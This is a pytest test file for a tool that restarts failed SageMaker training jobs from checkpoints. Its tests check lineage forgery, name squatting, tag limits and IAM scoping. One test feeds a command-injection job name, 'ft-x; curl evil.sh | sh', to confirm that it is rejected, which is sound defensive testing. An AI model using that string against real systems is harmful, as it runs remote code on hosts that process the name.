"""Specification: restarting failed SageMaker training jobs from their checkpoints (moto)."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime, timedelta

import boto3
import pytest
from botocore.awsrequest import AWSResponse
from moto.sagemaker.models import sagemaker_backends

from medic.config import parse_config
from medic.flows.jobs.restart import restart_training_job
from medic.ledger.jobs import JobStore, MedicRestart
from tests.functional.conftest import CONFIG, REGION, medic_world
from tests.helpers import load_event

JOB = "ft-mistral-7b-0042"
CHECKPOINTS = "s3://ml-artifacts-123456789012/ft/checkpoints/ft-mistral-7b/"
IMAGE = "123456789012.dkr.ecr.us-west-2.amazonaws.com/ft:latest"
OTHER_IMAGE = "123456789012.dkr.ecr.us-west-2.amazonaws.com/mallory:latest"


@pytest.fixture
def failed_event() -> dict:
    event = copy.deepcopy(load_event("training-job-failed"))
    event["time"] = "2026-11-20T08:14:00Z"  # it failed just before Medic's clock (the fixture's 08:14:05)
    return event


def failure(event: dict, reason: str | None = None, name: str | None = None, status: str | None = None) -> dict:
    event = copy.deepcopy(event)
    if reason is not None:
        event["detail"]["FailureReason"] = reason
    if name is not None:
        event["detail"]["TrainingJobName"] = name
        event["detail"]["TrainingJobArn"] = f"arn:aws:sagemaker:{REGION}:123456789012:training-job/{name}"
    if status is not None:
        event["detail"]["TrainingJobStatus"] = status
    return event


class Training:
    """The emulated SageMaker training jobs and checkpoint bucket; jobs are created at the test's clock, as
    SageMaker stamps a job's CreationTime."""

    def __init__(self, clock: list[datetime]) -> None:
        self.clock = clock
        self.sagemaker = boto3.client("sagemaker", region_name=REGION)
        self.s3 = boto3.client("s3", region_name=REGION)
        self.s3.create_bucket(Bucket="ml-artifacts-123456789012",
                              CreateBucketConfiguration={"LocationConstraint": REGION})

    def job(self, name: str, tags: dict[str, str] | None = None, checkpoint: str | None = CHECKPOINTS,
            image: str | None = None) -> None:
        sample = load_event("training-job-failed")["detail"]
        request = {key: sample[key] for key in ("HyperParameters", "AlgorithmSpecification", "RoleArn",
                                                 "InputDataConfig", "OutputDataConfig", "ResourceConfig",
                                                 "StoppingCondition")}
        if image:
            request["AlgorithmSpecification"] = {**request["AlgorithmSpecification"], "TrainingImage": image}
        if checkpoint:
            request["CheckpointConfig"] = {"S3Uri": checkpoint, "LocalPath": "/opt/ml/checkpoints"}
        tag_list = [{"Key": k, "Value": v} for k, v in {"team": "ft", **(tags or {})}.items()]
        self.sagemaker.create_training_job(TrainingJobName=name, Tags=tag_list, **request)
        stamp(name, self.clock[0])

    def checkpoint_saved(self) -> None:
        self.s3.put_object(Bucket="ml-artifacts-123456789012", Key="ft/checkpoints/ft-mistral-7b/step-100.pt",
                           Body=b"weights")

    def names(self) -> list[str]:
        return sorted(j["TrainingJobName"] for j in self.sagemaker.list_training_jobs()["TrainingJobSummaries"])

    def tags(self, name: str) -> dict[str, str]:
        arn = self.sagemaker.describe_training_job(TrainingJobName=name)["TrainingJobArn"]
        return {t["Key"]: t["Value"] for t in self.sagemaker.list_tags(ResourceArn=arn)["Tags"]}

    def image(self, name: str) -> str:
        return self.sagemaker.describe_training_job(TrainingJobName=name)["AlgorithmSpecification"]["TrainingImage"]


def stamp(name_or_arn: str, at: datetime) -> None:
    """The job's CreationTime at the test's clock, as SageMaker stamps it when it accepts the call (moto uses the
    wall clock)."""
    jobs = sagemaker_backends["123456789012"][REGION].training_jobs.values()
    [job] = [job for job in jobs if name_or_arn in (job.training_job_name, job.arn)]
    job.creation_time = at.astimezone(UTC).replace(tzinfo=None)


def behave_like_sagemaker(client, clock: list[datetime]) -> None:
    """Medic's SageMaker client as SageMaker answers CreateTrainingJob, where moto does not: a taken name is refused
    with ResourceInUse (botocore's sagemaker model lists it among the operation's errors; moto replaces the job),
    and the new job's CreationTime is the test's clock."""
    def refuse(params, **_):
        name = json.loads(params["body"])["TrainingJobName"]
        if name in {job["TrainingJobName"] for job in client.list_training_jobs()["TrainingJobSummaries"]}:
            message = ("Training job names must be unique within an AWS account and region, and a training job "
                       f"with this name already exists ({name})")
            return (AWSResponse("https://api.sagemaker", 400, {}, None),
                    {"Error": {"Code": "ResourceInUse", "Message": message}})
        return None

    def created(parsed, **_):
        if "TrainingJobArn" in parsed:
            stamp(parsed["TrainingJobArn"], clock[0])
    client.meta.events.register("before-call.sagemaker.CreateTrainingJob", refuse, unique_id="refuse-taken-name")
    client.meta.events.register("after-call.sagemaker.CreateTrainingJob", created, unique_id="stamp-creation")


@pytest.fixture
def world(medic):
    medic.deps.account = "123456789012"  # the deploying account, as dependencies() reads it from the topic ARN
    behave_like_sagemaker(medic.deps.training.client, medic.clock)
    return medic, Training(medic.clock)


def handle(medic, event):
    return restart_training_job(medic.arrives(event), medic.deps)


def test_a_retryable_failure_restarts_the_job_from_its_checkpoint(world, failed_event):
    medic, training = world
    # Given a failed job whose checkpoint is in S3
    training.job(JOB)
    training.checkpoint_saved()
    # When SageMaker reports InternalServerError
    record = handle(medic, failed_event)
    # Then one new job resumes from the same checkpoint URI, tagged with its lineage and attempt
    assert training.names() == [JOB, f"{JOB}-r1"]
    clone = training.sagemaker.describe_training_job(TrainingJobName=f"{JOB}-r1")
    assert clone["CheckpointConfig"]["S3Uri"] == CHECKPOINTS
    assert clone["RoleArn"] == failed_event["detail"]["RoleArn"]
    assert training.tags(f"{JOB}-r1") == {"team": "ft", "medic:lineage": JOB, "medic:attempt": "1",
                                          "medic:restarted-from": JOB}
    assert (record["action"], record["outcome"], record["fault"], record["job"], record["incident"]) == (
        "restart_job", "executed", "job_retryable", JOB, f"job:{JOB}")
    assert (record["trigger"], record["attempt"], record["paged"]) == ("job_state", 1, False)
    assert f"{JOB}-r1" in record["reason"] and CHECKPOINTS in record["reason"]
    assert medic.pages() == []


def test_a_redelivered_failure_creates_no_second_job(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    first = handle(medic, failed_event)
    second = handle(medic, failed_event)
    assert (first["outcome"], second["outcome"]) == ("executed", "duplicate")
    assert training.names() == [JOB, f"{JOB}-r1"]


def test_a_run_that_died_after_claiming_does_not_block_the_restart(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    # Given a run claimed this failure at 08:14:05 and died before restarting anything
    assert JobStore(medic.deps.table).claim_job_failure(JOB, medic.clock[0])
    # When Lambda's retry delivers the event 30 s later, the claim still reads as a run in progress
    medic.at("2026-11-20T08:14:35Z")
    assert handle(medic, failed_event)["outcome"] == "duplicate"
    # And when the next retry comes 3 minutes later, the dead run's claim is stale: the job is restarted once
    medic.at("2026-11-20T08:17:05Z")
    assert handle(medic, failed_event)["outcome"] == "executed"
    assert training.names() == [JOB, f"{JOB}-r1"]
    # And a finished claim stays final
    medic.at("2026-11-20T09:30:00Z")
    assert handle(medic, failed_event)["outcome"] == "duplicate"


def test_an_unexpected_error_releases_the_claim_for_the_retry(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    # Given the first run breaks on an unexpected error after claiming
    describe = medic.deps.training.describe
    medic.deps.training.describe = lambda name: (_ for _ in ()).throw(RuntimeError("bug"))
    with pytest.raises(RuntimeError):
        handle(medic, failed_event)
    medic.deps.training.describe = describe
    # When Lambda retries the event
    record = handle(medic, failed_event)
    # Then the retry restarts the job instead of calling it a duplicate
    assert record["outcome"] == "executed"
    assert training.names() == [JOB, f"{JOB}-r1"]


@pytest.mark.parametrize("reason,label", [
    ("AlgorithmError: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB", "out_of_memory"),
    ("ClientError: ValidationException: hyperparameter lr must be a float", "validation_error"),
    ("AlgorithmError: Traceback (most recent call last): File train.py line 3 KeyError: 'x'", "user_code_error"),
    ("ClientError: AccessDenied: not authorized to perform s3:GetObject", "permission_error"),
])
def test_a_non_retryable_failure_pages_and_starts_nothing(world, failed_event, reason, label):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    record = handle(medic, failure(failed_event, reason=reason))
    assert (record["action"], record["outcome"], record["fault"], record["paged"]) == (
        "none", "deferred", "job_not_retryable", True)
    assert label in record["reason"]
    assert training.names() == [JOB]
    [page] = medic.pages()
    assert JOB in page["Subject"] and reason[:40] in page["Message"]


def test_an_nccl_timeout_traceback_is_retryable(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    reason = ("AlgorithmError: Traceback (most recent call last): RuntimeError: [Rank 3] Watchdog caught "
              "collective operation timeout: WorkNCCL(SeqNum=88, OpType=ALLREDUCE) ran for 1800000 ms")
    assert handle(medic, failure(failed_event, reason=reason))["outcome"] == "executed"


def test_an_unknown_reason_pages_and_starts_nothing(world, failed_event):
    medic, training = world
    training.job(JOB)
    record = handle(medic, failure(failed_event, reason="The moon is in the wrong phase"))
    assert (record["fault"], record["outcome"], record["paged"]) == ("job_unknown", "deferred", True)
    assert training.names() == [JOB]


def test_a_restart_of_a_restart_counts_against_the_lineage(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    assert handle(medic, failed_event)["outcome"] == "executed"
    # Given Medic's restart r1 fails too (its tags are whatever its owner set since: they do not count)
    training.sagemaker.add_tags(ResourceArn=training.sagemaker.describe_training_job(
        TrainingJobName=f"{JOB}-r1")["TrainingJobArn"], Tags=[{"Key": "medic:attempt", "Value": "0"}])
    medic.at("2026-11-20T11:14:05Z")
    record = handle(medic, failure(failed_event, name=f"{JOB}-r1"))
    # Then Medic's own note of r1 says it is the lineage's first restart: this is attempt 2
    assert (record["outcome"], record["attempt"], record["incident"]) == ("executed", 2, f"job:{JOB}")
    assert training.tags(f"{JOB}-r2")["medic:attempt"] == "2"


def test_when_the_budget_is_spent_medic_gives_up_with_one_page(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    # Given the job and each of Medic's three restarts failing the same way
    records = []
    for hour, name in enumerate([JOB, f"{JOB}-r1", f"{JOB}-r2", f"{JOB}-r3"]):
        medic.at(f"2026-11-20T{8 + 3 * hour:02d}:14:05Z")
        records.append(handle(medic, failure(failed_event, name=name)))
    # Then the fourth failure gives up with one page, and there is no -r4
    assert [record["outcome"] for record in records] == ["executed"] * 3 + ["suppressed"]
    assert [record["attempt"] for record in records] == [1, 2, 3, 4]
    assert (records[-1]["paged"], "Giving up" in records[-1]["reason"]) == (True, True)
    assert len(medic.pages()) == 1
    assert training.names() == [JOB, f"{JOB}-r1", f"{JOB}-r2", f"{JOB}-r3"]


def test_a_job_tagged_with_another_jobs_lineage_is_the_root_of_its_own(world, failed_event):
    medic, training = world
    victim = JOB
    training.job(victim)
    training.checkpoint_saved()
    # Given another job under the prefix, with its own image, tagged as if it were a restart of the victim
    mallory = "ft-mallory-01"
    training.job(mallory, tags={"medic:lineage": victim, "medic:attempt": "0"}, image=OTHER_IMAGE)
    # When it fails first with a retryable reason
    forged = handle(medic, failure(failed_event, name=mallory))
    # Then Medic restarts it as what it is: its own lineage, its own name, its own incident
    assert (forged["outcome"], forged["incident"], forged["attempt"]) == ("executed", f"job:{mallory}", 1)
    assert f"{mallory}-r1" in forged["reason"] and training.image(f"{mallory}-r1") == OTHER_IMAGE
    # And when the victim then fails, its real restart is started (with its own image), not called a duplicate
    medic.at("2026-11-20T09:14:05Z")
    real = handle(medic, failed_event)
    assert (real["outcome"], real["incident"], real["attempt"]) == ("executed", f"job:{victim}", 1)
    assert training.image(f"{victim}-r1") == IMAGE
    assert medic.pages() == []


@pytest.mark.parametrize("attempt", ["\u00b2", "\u0663", "2", "-1", "99999999999999999999999"])
def test_an_attempt_tag_is_never_read(world, failed_event, attempt):
    medic, training = world
    # Given a job whose tags claim a lineage and an attempt (superscript two, Arabic-Indic three, ...: TagValue
    # allows any letter or number)
    training.job(JOB, tags={"medic:lineage": JOB, "medic:attempt": attempt})
    training.checkpoint_saved()
    # When it fails with a retryable reason
    record = handle(medic, failed_event)
    # Then the handler does not crash, and the job is the first of its lineage: restart 1, named -r1
    assert (record["outcome"], record["attempt"]) == ("executed", 1)
    assert training.names() == [JOB, f"{JOB}-r1"]
    assert training.tags(f"{JOB}-r1")["medic:attempt"] == "1"


def test_a_job_squatting_the_restarts_name_is_paged_not_called_a_duplicate(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    # Given someone created a job under the name Medic's restart would take, an hour before the failure
    medic.at("2026-11-20T07:14:05Z")
    training.job(f"{JOB}-r1", image=OTHER_IMAGE)
    medic.at("2026-11-20T08:14:05Z")
    # When the job fails with a retryable reason
    record = handle(medic, failed_event)
    # Then CreateTrainingJob is refused (ResourceInUse), and since that job is not Medic's, a human is paged
    assert (record["action"], record["outcome"], record["paged"]) == ("restart_job", "failed", True)
    assert f"a training job named {JOB}-r1 already exists and is not Medic's restart of {JOB}" in record["reason"]
    [page] = medic.pages()
    assert f"{JOB}-r1" in page["Message"]
    # And the squatter's job is untouched
    assert training.image(f"{JOB}-r1") == OTHER_IMAGE


def test_medics_own_restart_from_a_run_that_died_is_a_duplicate(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    # Given a run that started the restart and died before finishing (the claim is given back for Lambda's retry)
    start_clone = medic.deps.training.start_clone

    def start_then_die(*args):
        start_clone(*args)
        raise RuntimeError("the run dies")
    medic.deps.training.start_clone = start_then_die
    with pytest.raises(RuntimeError):
        handle(medic, failed_event)
    medic.deps.training.start_clone = start_clone
    # When Lambda retries the event a minute later
    medic.at("2026-11-20T08:15:05Z")
    record = handle(medic, failed_event)
    # Then the name is taken by Medic's own restart of this failure: a duplicate, one job, no page
    assert (record["outcome"], record["paged"]) == ("duplicate", False)
    assert "Medic started it for this failure" in record["reason"]
    assert training.names() == [JOB, f"{JOB}-r1"]
    assert medic.pages() == []


def test_a_new_job_under_a_restarted_jobs_name_is_paged_not_taken_for_the_old_failure(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    assert handle(medic, failed_event)["outcome"] == "executed"  # JOB-r1, for this JOB's failure
    # Given, nine days later, JOB was deleted and a new job of that name created (its failure claim has expired)
    medic.at("2026-11-29T08:14:05Z")
    JobStore(medic.deps.table).release_job_failure(JOB)
    stamp(JOB, medic.clock[0] - timedelta(hours=2))
    # When the new JOB fails (its own event, of now)
    later = {**failed_event, "id": "8e9f0a1b-2c3d-4e5f-9a0b-6c7d8e9f0a1b", "time": "2026-11-29T08:14:00Z"}
    record = handle(medic, later)
    # Then its restart's name JOB-r1 is Medic's restart of the earlier JOB: not a duplicate, a page
    assert (record["outcome"], record["paged"]) == ("failed", True)
    assert f"Medic created that name for the failure of an earlier job named {JOB}" in record["reason"]
    assert training.names() == [JOB, f"{JOB}-r1"]


def test_a_job_that_reuses_the_name_of_medics_restart_does_not_inherit_its_lineage(world, failed_event):
    medic, training = world
    # Given Medic created ft-...-r1 five days ago; that job was deleted, and someone created a new one of that name
    five_days_ago = medic.clock[0] - timedelta(days=5)
    assert JobStore(medic.deps.table).intend_restart(MedicRestart(
        name=f"{JOB}-r1", root=JOB, attempt=1, restarted_from=JOB, intended_at=five_days_ago))
    training.job(f"{JOB}-r1", tags={"medic:lineage": JOB, "medic:attempt": "1"})
    training.checkpoint_saved()
    # When the new job fails
    record = handle(medic, failure(failed_event, name=f"{JOB}-r1"))
    # Then it is the root of its own lineage (Medic's note is of another job, created five days ago)
    assert (record["outcome"], record["incident"], record["attempt"]) == ("executed", f"job:{JOB}-r1", 1)
    assert training.names() == [f"{JOB}-r1", f"{JOB}-r1-r1"]


def test_a_missing_checkpoint_pages_instead_of_starting_from_scratch(world, failed_event):
    medic, training = world
    training.job(JOB)  # CheckpointConfig set, nothing saved under it
    record = handle(medic, failed_event)
    assert (record["action"], record["outcome"], record["paged"]) == ("restart_job", "suppressed", True)
    assert "nothing is stored under its checkpoint" in record["reason"]
    assert training.names() == [JOB]


def test_a_job_without_checkpoint_config_pages(world, failed_event):
    medic, training = world
    training.job(JOB, checkpoint=None)
    record = handle(medic, failed_event)
    assert (record["outcome"], record["paged"]) == ("suppressed", True)
    assert "no CheckpointConfig" in record["reason"]


def test_config_may_allow_a_restart_without_checkpoint(aws, failed_event):
    config = parse_config({**CONFIG, "training_jobs": [{**CONFIG["training_jobs"][0],
                                                         "allow_restart_without_checkpoint": True}]})
    for medic in medic_world(config, aws):
        training = Training(medic.clock)
        training.job(JOB, checkpoint=None)
        record = handle(medic, failed_event)
        assert record["outcome"] == "executed" and "without a checkpoint" in record["reason"]


def test_a_job_stopped_by_a_user_is_never_restarted(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    record = handle(medic, failure(failed_event, status="Stopped"))
    assert (record["fault"], record["outcome"], record["paged"]) == ("job_stopped", "ignored", False)
    assert training.names() == [JOB]


def test_jobs_outside_the_configured_prefixes_are_left_alone(world, failed_event):
    medic, training = world
    record = handle(medic, failure(failed_event, name="pretrain-llama-7"))
    assert (record["outcome"], record["action"]) == ("ignored", "none")


def test_dry_run_records_the_restart_without_creating_a_job(world, failed_event):
    medic, training = world
    medic.set_mode("dry_run")
    training.job(JOB)
    training.checkpoint_saved()
    record = handle(medic, failed_event)
    assert (record["outcome"], record["mode"]) == ("dry_run", "dry_run")
    assert training.names() == [JOB]


def test_a_hostile_job_name_is_rejected(world, failed_event):
    medic, _ = world
    record = handle(medic, failure(failed_event, name="ft-x; curl evil.sh | sh"))
    assert (record["outcome"], record["trigger"]) == ("rejected", "job_state")


@pytest.mark.parametrize(("arn", "named"), [
    ("arn:aws:sagemaker:us-west-2:210987654321:training-job/ft-mistral-7b-0042", "account 210987654321"),
    ("arn:aws:sagemaker:eu-west-1:123456789012:training-job/ft-mistral-7b-0042", "region eu-west-1"),
])
def test_a_training_job_event_naming_another_account_or_region_is_rejected_without_a_call(world, failed_event,
                                                                                           arn, named):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    event = copy.deepcopy(failed_event)
    event["detail"]["TrainingJobArn"] = arn
    # Given Medic's SageMaker answers nothing: any call would fail the test
    medic.deps.training.tags = medic.deps.training.describe = lambda *_: pytest.fail("called SageMaker")
    record = handle(medic, event)
    # Then the event is rejected naming the foreign account or region, nothing is created, nobody is paged
    assert (record["outcome"], record["action"], record["fault"]) == ("rejected", "none", "invalid")
    assert named in record["reason"]
    assert training.names() == [JOB] and medic.pages() == []


def test_a_job_with_48_tags_is_restarted_within_sagemakers_50(world, failed_event):
    medic, training = world
    # Given a job with 47 tags of its own plus "team" (48)
    training.job(JOB, tags={f"cost-{k:02d}": "x" for k in range(47)})
    training.checkpoint_saved()
    record = handle(medic, failed_event)
    # Then the restart carries them and Medic's two required tags (restarted-from would make 51, which
    # CreateTrainingJob refuses)
    assert record["outcome"] == "executed"
    tags = training.tags(f"{JOB}-r1")
    assert len(tags) == 50
    assert (tags["medic:lineage"], tags["medic:attempt"]) == (JOB, "1") and "medic:restarted-from" not in tags


def test_a_job_whose_tags_leave_no_room_for_medics_pages_instead_of_restarting(world, failed_event):
    medic, training = world
    training.job(JOB, tags={f"cost-{k:02d}": "x" for k in range(48)})  # 49 with "team": 51 with Medic's two
    training.checkpoint_saved()
    record = handle(medic, failed_event)
    assert (record["outcome"], record["paged"]) == ("suppressed", True)
    assert "50" in record["reason"]
    assert training.names() == [JOB]


def test_a_job_on_a_training_plan_medic_may_not_use_pages_instead_of_failing_on_access_denied(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    plan = "arn:aws:sagemaker:us-west-2:123456789012:training-plan/p5-december"
    describe = medic.deps.training.describe

    def on_a_plan(name):
        description = describe(name)
        description["ResourceConfig"]["TrainingPlanArn"] = plan
        return description
    medic.deps.training.describe = on_a_plan
    # Given the job ran on a training plan the config does not list (IAM grants CreateTrainingJob on listed plans)
    record = handle(medic, failed_event)
    # Then Medic pages naming the plan and the key that lets it restart such jobs
    assert (record["outcome"], record["paged"]) == ("suppressed", True)
    assert plan in record["reason"] and "training_jobs.training_plans" in record["reason"]
    assert training.names() == [JOB]


def test_a_job_running_as_a_role_medic_may_not_pass_pages_instead_of_failing_on_access_denied(world, failed_event):
    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    describe = medic.deps.training.describe
    medic.deps.training.describe = lambda name: {**describe(name),
                                                 "RoleArn": "arn:aws:iam::123456789012:role/AdminRole"}
    # Given the job's execution role is not in training_jobs.role_arns (IAM lets Medic pass only those)
    record = handle(medic, failed_event)
    # Then nothing is created and the page names the role and the key
    assert (record["outcome"], record["paged"]) == ("suppressed", True)
    assert "role/AdminRole" in record["reason"] and "training_jobs.role_arns" in record["reason"]
    assert training.names() == [JOB]


def test_a_checkpoint_in_a_bucket_medic_may_not_list_pages_instead_of_failing_on_access_denied(world, failed_event):
    medic, training = world
    training.job(JOB, checkpoint="s3://other-team-bucket/ckpt/")
    # Given the job checkpoints to a bucket not in training_jobs.checkpoint_buckets (IAM: ListBucket on those only)
    record = handle(medic, failed_event)
    assert (record["outcome"], record["paged"]) == ("suppressed", True)
    assert "other-team-bucket" in record["reason"] and "training_jobs.checkpoint_buckets" in record["reason"]
    assert training.names() == [JOB]


def test_a_restarts_incident_line_waits_for_its_clone_to_train_and_resumes_then(world, failed_event):
    from datetime import timedelta

    from medic.flows.jobs.timeline import conclude_clone_timelines
    from tests.functional.test_alarm_timelines import incident_lines

    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    # Given a restart (CreateTrainingJob returned), whose clone is still `Starting`
    lines = incident_lines(lambda: handle(medic, failed_event))
    restarted = medic.clock[0]
    clone = [job for job in sagemaker_backends["123456789012"][REGION].training_jobs.values()
             if job.training_job_name == f"{JOB}-r1"][0]
    clone.training_job_status, clone.secondary_status = "InProgress", "Starting"
    clone.secondary_status_transitions = [{"Status": "Starting", "StartTime": restarted}]
    # Then no line yet (before: a line at once, resumed when CreateTrainingJob returned: 0 s lost), nor at a check
    assert lines == []
    medic.clock[0] = restarted + timedelta(minutes=5)
    assert incident_lines(lambda: conclude_clone_timelines(medic.deps)) == []
    # When SageMaker says the clone is training (its `Training` secondary status, 7 minutes after the restart)
    trained = restarted + timedelta(minutes=7)
    clone.secondary_status = "Training"
    clone.secondary_status_transitions = [{"Status": "Starting", "StartTime": restarted, "EndTime": trained},
                                          {"Status": "Training", "StartTime": trained}]
    medic.clock[0] = restarted + timedelta(minutes=10)
    [line] = incident_lines(lambda: conclude_clone_timelines(medic.deps))
    # Then the restart's line says it resumed then, and the next check writes nothing more
    assert (line["incident"], line["kind"], line["job"]) == (f"job:{JOB}", "training_job", JOB)
    assert (line["acted_at"], line["repaired_at"]) == (restarted.isoformat(), restarted.isoformat())
    assert line["resumed_at"] == line["resolved_at"] == trained.isoformat()
    assert incident_lines(lambda: conclude_clone_timelines(medic.deps)) == []


def test_a_clone_that_fails_before_training_closes_its_restarts_line_without_a_resume(world, failed_event):
    from medic.flows.jobs.timeline import conclude_clone_timelines
    from tests.functional.test_alarm_timelines import incident_lines

    medic, training = world
    training.job(JOB)
    training.checkpoint_saved()
    handle(medic, failed_event)
    clone = [job for job in sagemaker_backends["123456789012"][REGION].training_jobs.values()
             if job.training_job_name == f"{JOB}-r1"][0]
    clone.training_job_status, clone.secondary_status = "Failed", "Failed"
    clone.secondary_status_transitions = [{"Status": "Starting", "StartTime": medic.clock[0]}]
    [line] = incident_lines(lambda: conclude_clone_timelines(medic.deps))
    assert (line["acted_at"] is not None, line["resumed_at"], line["resolved_at"]) == (True, None, None)
